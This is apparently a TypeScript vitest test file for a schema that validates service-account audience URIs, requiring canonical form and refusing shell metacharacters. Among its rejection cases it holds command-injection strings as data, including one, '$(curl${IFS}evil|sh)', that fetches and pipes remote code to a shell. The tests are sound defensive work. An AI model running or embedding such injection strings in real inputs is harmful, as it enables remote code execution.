import { describe, expect, it } from "vitest";
import { audienceSchema, audiencesSchema } from "./service-account";

const problem = (value: unknown) => {
  const result = audienceSchema.safeParse(value);
  return result.success ? null : result.error.issues.map((i) => i.message).join("; ");
};

describe("audiences are canonical and shell-inert", () => {
  it.each([
    "https://billing.example.com",
    "https://billing.example.com/",
    "https://billing.example.com/v1/invoices",
    "https://billing.example.com:8443/api?tenant=acme",
    "http://localhost:3000/api",
    "https://[::1]:8443",
    "billing-api.example.com",
    "urn:example:billing",
  ])("accepts %s as it is", (audience) => {
    expect(problem(audience)).toBeNull();
    expect(audienceSchema.parse(audience)).toBe(audience);
  });

  it.each([
    ["https://x.example/$(curl${IFS}evil|sh)", /\$, backticks, quotes or backslashes/],
    ["https://x.example/`id`", /\$, backticks, quotes or backslashes/],
    ["https://x.example/'a'", /\$, backticks, quotes or backslashes/],
    ['https://x.example/"a"', /\$, backticks, quotes or backslashes/],
    ["https://x.example/a\\b", /\$, backticks, quotes or backslashes/],
    ["billing$api.example.com", /\$, backticks, quotes or backslashes/],
    ["https://x.example/a b", /spaces/],
    ["ftp://x.example", /absolute URI/],
    ["https://x.example/#top", /fragment/],
    ["https://user:pw@x.example/", /user name or password/],
  ])("refuses %j", (audience, message) => {
    expect(problem(audience)).toMatch(message);
  });

  it.each([
    ["https://X.example", "https://x.example"],
    ["https://x.example:443/", "https://x.example/"],
    ["https://x.example:443", "https://x.example"],
    ["HTTPS://x.example/a", "https://x.example/a"],
    ["https://x.example/a/../b", "https://x.example/b"],
    ["https://x.example/{a}", "https://x.example/%7Ba%7D"],
    ["https://bücher.example/", "https://xn--bcher-kva.example/"],
  ])("refuses the non-canonical %s and names %s instead of rewriting it", (audience, canonical) => {
    expect(problem(audience)).toBe(`Write this audience in canonical form: ${canonical}`);
    expect(problem(canonical)).toBeNull();
  });

  it("refuses objects and numbers", () => {
    expect(problem({ not: "" })).not.toBeNull();
    expect(problem(42)).not.toBeNull();
  });

  it("names the failing element of a list", () => {
    const result = audiencesSchema.safeParse(["https://ok.example", "https://x.example/$(id)"]);
    expect(result.success).toBe(false);
    expect(result.error?.issues[0]?.path).toEqual([1]);
  });
});
